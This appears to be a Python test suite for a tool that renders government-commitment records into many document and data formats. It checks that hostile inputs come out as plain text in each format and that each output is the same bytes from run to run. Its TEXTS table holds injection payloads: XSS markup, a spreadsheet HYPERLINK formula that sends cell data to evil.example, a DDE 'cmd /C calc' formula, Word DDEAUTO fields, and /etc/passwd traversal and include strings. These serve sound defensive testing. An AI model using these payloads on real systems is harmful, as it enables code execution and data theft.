"""Every form of every document over the same hostile records: texts come out as texts, the same bytes each time.

A text stands in a title, an activity and a report of progress. What a form shows of them is read back with another
program, and must be there, letter for letter. `FORMS` is the list; a new form is a line of it.
"""

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import unicodedata
import zipfile
from collections.abc import Callable, Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from xml.etree import ElementTree as ET

import pytest
import warm
from markdown_it import MarkdownIt
from overlay import laid_over

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "cdata": "<![CDATA[ x ]]> ]]&gt; <!-- y --> -->",
    "jinja": "{{ 7*7 }} {% for a in b %}{{ a }}{% endfor %} {# c #}",
    "typst": '#eval("1") $x^2$ @label <tag> #include "/etc/passwd"',
    "word": "{ INCLUDETEXT C:/secret } { DDEAUTO c:/windows/cmd }",
    "bars": "|---|---|",
    "quotes": "\"double\" 'single' `back` ; , \\ \\n",
    "percent": "%s %(x)s %d {0} {x} $x ${y}",
    "calendar": "BEGIN:VALARM TRIGGER:-PT1M END:VALARM",
    "entities": "&lt; &amp; &#60; &#x3c; &nbsp;",
    "override": "paid \u202eto nobody",
    "arabic": "إلغاء المشروع (NDI) 2018–2020 100 %",
    "long": "x" * 10_000,
    "path": "../../../../etc/passwd",
    "other letters": "ⵜⴰⵎⴰⵣⵉⵖⵜ 漢字 🏛️",
}


def repository(folder: Path) -> Path:
    """A commitment a text: in its title, in the titles of two activities (one late, one to come), in its progress."""
    files = {}
    for number, text in enumerate(TEXTS.values(), start=1):
        said = json.dumps(text, ensure_ascii=False)
        files[f"data/commitments/2018-2020/{number:02}-text.yaml"] = (
            f'number: "{number}"\ntitle: {said}\nlead: national-archives\n'
            f'activities:\n  - {{id: "1", title: {said}, due: 2020-06}}\n  - {{id: "2", title: {said}, due: 2020-10}}\n'
            f"updates:\n  - meeting: 2020-07-15\n    completion: {number}\n    progress: {said}\n"
        ).encode()
    files["data/commitments/2018-2020/03-archives.yaml"] = files.pop("data/commitments/2018-2020/03-text.yaml")
    return laid_over(folder, files)


def letters(text: str) -> str:
    """The letters and signs of a text: what a form may break, join or leave out is not among them."""
    kept = (
        char
        for char in unicodedata.normalize("NFKC", text)
        if not char.isspace() and unicodedata.category(char) not in ("Cf", "Cc", "Mn")
    )
    return "".join(kept)


class Page(HTMLParser):
    """What a page says, and the names of its elements and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.said: list[str] = []
        self.names: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names |= {tag, *(name for name, _ in attrs)}

    def handle_data(self, data: str) -> None:
        self.said.append(data)


def html(data: bytes) -> str:
    page = Page(data.decode())
    assert not page.names & {"img", "iframe", "object", "embed", "onerror", "onload", "onclick", "svg/onload"}
    return "".join(page.said)


def markdown(data: bytes) -> str:
    """What a reader of GitHub's Markdown sees."""
    tokens = MarkdownIt("gfm-like", {"html": True, "linkify": False}).parse(data.decode())
    said = []
    for token in tokens:
        assert token.type != "html_block" or re.fullmatch(r"</?div[^>]*>\n*", token.content)
        for child in token.children or ():
            assert child.type != "html_inline" or re.fullmatch(r"<br>|</?div[^>]*>", child.content)
            assert (
                child.type not in ("image", "link_open")
                or not child.attrGet("href")
                or re.match("https?:|mailto:", str(child.attrGet("href")))
            )
            said.append(child.content)
    return "".join(said)


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for one in value.values():
            yield from strings(one)
    elif isinstance(value, list):
        for one in value:
            yield from strings(one)


def json_texts(data: bytes) -> str:
    return "\n".join(strings(json.loads(data)))


def pdf(data: bytes) -> str:
    import pypdfium2

    with pypdfium2.PdfDocument(data) as document:
        return "\n".join(page.get_textpage().get_text_range() for page in document)


def docx(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        body = ET.fromstring(archive.read("word/document.xml"))  # noqa: S314 - we wrote it
    assert not [name for name in names if "vba" in name.lower() or "embeddings" in name or "activeX" in name]
    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    instructions = {one.text.split()[0] for one in body.iter(f"{word}instrText") if one.text and one.text.strip()}
    assert instructions <= {"PAGE", "NUMPAGES"}
    return "".join(one.text or "" for one in body.iter(f"{word}t"))


def xlsx(data: bytes) -> str:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return "\n".join(str(cell.value) for cell in cells)


def csv_files(folder: Path) -> str:
    said = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            said += [cell for row in csv.reader(file, strict=True) for cell in row]
    return "\n".join(said)


def sqlite(path: Path) -> str:
    with sqlite3.connect(path) as there:
        tables = [name for (name,) in there.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        rows = [cell for one in tables for row in there.execute(f'SELECT * FROM "{one}"') for cell in row]  # noqa: S608
    return "\n".join(cell for cell in rows if isinstance(cell, str))


def parquet(folder: Path) -> str:
    import pyarrow.parquet

    tables = [pyarrow.parquet.read_table(path) for path in sorted(folder.glob("*.parquet"))]
    return "\n".join(strings([table.to_pylist() for table in tables]))


def ics(data: bytes) -> str:
    import icalendar

    calendar: Any = icalendar.Calendar.from_ical(data)
    assert {one.name for one in calendar.walk()} <= {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
    return "\n".join(str(event["SUMMARY"]) + str(event.get("DESCRIPTION", "")) for event in calendar.walk("VEVENT"))


def site(folder: Path) -> str:
    feeds = [ET.parse(path).getroot() for path in sorted(folder.rglob("*.xml"))]  # noqa: S314
    words = ["".join(one.itertext()) for feed in feeds for one in feed.iter()]
    return "\n".join([*(html(path.read_bytes()) for path in sorted(folder.rglob("*.html"))), *words])


def of_file(read: Callable[[bytes], str]) -> Callable[[Path], str]:
    return lambda path: read(path.read_bytes())


class Form(NamedTuple):
    """A command, whose last word is what it writes, and how that is read."""

    command: str
    read: Callable[[Path], str]


BY_ENDING: Mapping[str, Callable[[Path], str]] = {
    "md": of_file(markdown),
    "html": of_file(html),
    "json": of_file(json_texts),
    "pdf": of_file(pdf),
    "docx": of_file(docx),
}
REPORTS = ("minutes", "progress", "standards", "agenda", "self-assessment", "commitment 4", "letter national-archives")
FORMS: Mapping[str, Form] = {
    **{
        f"{report} as {ending}": Form(f"report {report} -o made.{ending}", read)
        for report in REPORTS
        for ending, read in BY_ENDING.items()
    },
    "changes as pdf": Form("diff 2019-12-04 2020-07-15 -o made.pdf", BY_ENDING["pdf"]),
    "changes as docx": Form("diff 2019-12-04 2020-07-15 -o made.docx", BY_ENDING["docx"]),
    "csv": Form("export csv -o made", csv_files),
    "tables as json": Form("export json -o made.json", of_file(json_texts)),
    "sqlite": Form("export sqlite -o made.db", sqlite),
    "parquet": Form("export parquet -o made", parquet),
    "xlsx": Form("export xlsx -o made.xlsx", of_file(xlsx)),
    "ics": Form("export ics -o made.ics", of_file(ics)),
    "site": Form("site -o made", site),
}
SHOWS_ALL = {name for name in FORMS if not name.startswith(("standards", "agenda", "commitment"))}
"""The others speak of some commitments or of none: they must stand, and show what they show."""


def on_paper(word: str, said: str) -> bool:
    """Whether a text is in a PDF: a new page may stand in the middle of it, other directions turn it around by words.

    What no font has stands there by its number.
    """
    text = TEXTS[word]
    if word == "long":
        return said.count("x") >= len(text)
    if word == "arabic":
        return all(part.strip("()") in said for part in text.split())
    if word == "other letters":
        return all(f"U+{ord(one):04X}" in said for one in letters(text))
    return letters(text) in said


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return repository(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="session")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with warm.ogpctl(tmp_path_factory.mktemp("here"), {"PYTHONHASHSEED": "1"}) as folder:
        yield folder


@pytest.fixture(scope="session")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    with warm.ogpctl(tmp_path_factory.mktemp("elsewhere"), {"PYTHONHASHSEED": "2"}) as folder:
        yield folder


def made(program: Path, root: Path, folder: Path, command: str, **environment: str) -> Path:
    """What a command writes into a folder."""
    folder.mkdir()
    done = subprocess.run(
        [program / "ogpctl", *command.split(), "-C", root, "--as-of", "2020-07-15"],
        cwd=folder,
        env={
            "PATH": os.environ["PATH"],
            "OGPCTL_CACHE_DIR": str(program / "cache"),
            "LC_ALL": "C.UTF-8",
            **environment,
        },
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return folder / command.rpartition(" ")[2]


def contents(path: Path) -> dict[str, bytes]:
    """Every file below a path, by its name."""
    files = [path] if path.is_file() else [one for one in sorted(path.rglob("*")) if one.is_file()]
    return {one.relative_to(path.parent).as_posix(): one.read_bytes() for one in files}


@pytest.mark.skipif(not hasattr(os, "fork"), reason="commands are run in forks of two processes, which Windows has not")
@pytest.mark.parametrize("name", FORMS)
def test_a_hostile_text_is_a_text_and_the_same_bytes_each_time(
    name: str, hostile: Path, here: Path, elsewhere: Path, tmp_path: Path
) -> None:
    """The other time in another folder and time zone, with other hashes, and with a process more."""
    form = FORMS[name]
    one = made(here, hostile, tmp_path / "one", form.command, TZ="UTC", OGPCTL_JOBS="1")
    other = made(elsewhere, hostile, tmp_path / "other", form.command, TZ="Asia/Tokyo", OGPCTL_JOBS="2")
    assert contents(one) == contents(other)
    said = letters(form.read(one))
    if name in SHOWS_ALL:
        shown = on_paper if name.endswith("pdf") else lambda word, said: letters(TEXTS[word]) in said
        assert [word for word in TEXTS if not shown(word, said)] == []


@pytest.mark.skipif(not hasattr(os, "fork"), reason="commands are run in forks of a process, which Windows has not")
@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_the_calendar_has_two_ends(day: str, here: Path, tmp_path: Path) -> None:
    root = laid_over(tmp_path, {})
    wrong = []
    for name, form in FORMS.items():
        if "minutes" not in form.command and "diff" not in form.command:  # there was no meeting, and there are no sides
            command = form.command.replace("commitment 4", "commitment 3")
            folder = tmp_path / name
            folder.mkdir()
            done = subprocess.run(
                [here / "ogpctl", *command.split(), "-C", root, "--as-of", day],
                cwd=folder, capture_output=True, encoding="utf-8", check=False,
            )  # fmt: skip
            if done.returncode:
                wrong.append((command, done.stderr))
    assert wrong == []
